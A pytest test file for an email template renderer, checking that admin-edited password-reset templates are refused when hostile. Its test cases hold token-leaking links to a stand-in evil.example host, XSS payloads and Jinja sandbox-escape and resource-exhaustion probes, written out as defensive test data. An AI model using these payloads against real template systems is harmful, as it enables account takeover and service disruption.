"""Admin-edited templates: sandbox, variables of the kind, safe html, system links."""

import pytest

from services.notify.samples import sample
from services.notify.templates import Renderer, TemplateInvalid

URL = "http://127.0.0.1:8000"
RESET = f"{URL}/reset-password?token=SECRET-TOKEN"


def source(text="t {{ portal_link() }}", html="<p>{{ portal_link('Mở') }}</p>"):
    return (
        "{% block subject %}Đặt lại mật khẩu{% endblock %}"
        f"{{% block text %}}{text}{{% endblock %}}"
        f"{{% block html %}}{html}{{% endblock %}}"
    )


@pytest.fixture(scope="module")
def renderer():
    return Renderer(public_url=URL)


def refused(renderer, src, key="password_reset"):
    with pytest.raises(TemplateInvalid) as caught:
        renderer.check(key, src, sample(key, URL))
    return caught.value


@pytest.mark.parametrize(
    ("src", "code"),
    [
        (source(html='<img src="https://evil.example/p?{{ portal_link() }}">'),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(html='<a href="https://evil.example/">x</a>'),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(html='<p onclick="steal()">x</p>'), "TEMPLATE_CONTENT_REFUSED"),
        (source(html="<script>steal()</script>"), "TEMPLATE_CONTENT_REFUSED"),
        (source(html='<iframe src="https://evil.example/"></iframe>'),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(html='<p style="background:url(https://evil.example/)">x</p>'),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(html='<a href="javascript:alert(1)">x</a>'),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(text="https://evil.example/?t={{ portal_link() }}"),
         "TEMPLATE_CONTENT_REFUSED"),
        (source(text="{{ link }}"), "TEMPLATE_VARIABLE_UNKNOWN"),
        (source(text="{{ event.reset_token }}"), "TEMPLATE_VARIABLE_UNKNOWN"),
        (source(text="{{ ''.__class__.__mro__ }}"), "TEMPLATE_UNSAFE"),
        (source(text="{{ ''|attr('__class__') }}"), "TEMPLATE_UNSAFE"),
        (source(text="{{ name['__class__'] }}"), "TEMPLATE_UNSAFE"),
        (source(text="{% include 'vi/password_reset.j2' %}"), "TEMPLATE_UNSAFE"),
        (source(text="{{ 'x' * 100000000 }}"), "TEMPLATE_UNSAFE"),
        (source(text="{{ name"), "TEMPLATE_INVALID"),
    ],
)  # fmt: skip
def test_unsafe_templates_are_refused_with_their_code(renderer, src, code):
    assert refused(renderer, src).code == code


def test_unknown_variables_are_named(renderer):
    error = refused(renderer, source(text="{{ link }} {{ token }} {{ name }}"))
    assert error.reasons == ["link", "token"]


def test_variables_of_another_kind_are_refused(renderer):
    error = refused(renderer, source(text="{{ reason }}"), key="password_reset")
    assert error.code == "TEMPLATE_VARIABLE_UNKNOWN"


def test_the_reset_link_is_written_by_the_system_only_where_it_stands_alone(
    renderer,
):
    hostile = source(
        text="https://evil.example/?{{ portal_link() }}",
        html='<img src="https://evil.example/x?{{ portal_link() }}">'
        '<a href="https://evil.example/?{{ portal_link() }}">x</a>'
        '<p style="background:url(https://evil.example/)">y</p>',
    )
    out = renderer.render("password_reset", "vi", {}, hostile, RESET)
    assert "evil.example" not in out.html and "<img" not in out.html
    assert "SECRET-TOKEN" not in out.text
    assert "urn:portal-link" not in out.html + out.text


def test_a_safe_override_gets_the_link_and_the_layout(renderer):
    out = renderer.render("password_reset", "vi", {"name": "An"}, source(), RESET)
    assert out.text == f"t {RESET}"
    assert f'<p><a href="{RESET}">Mở</a></p>' in out.html
    assert out.html.startswith("<!DOCTYPE html>")


def test_preview_renders_the_sample_of_the_kind(renderer):
    example = sample("password_reset", URL)
    shown = renderer.preview("password_reset", "vi", source(), example)
    assert shown.text.startswith(f"t {URL}/reset-password?token=")
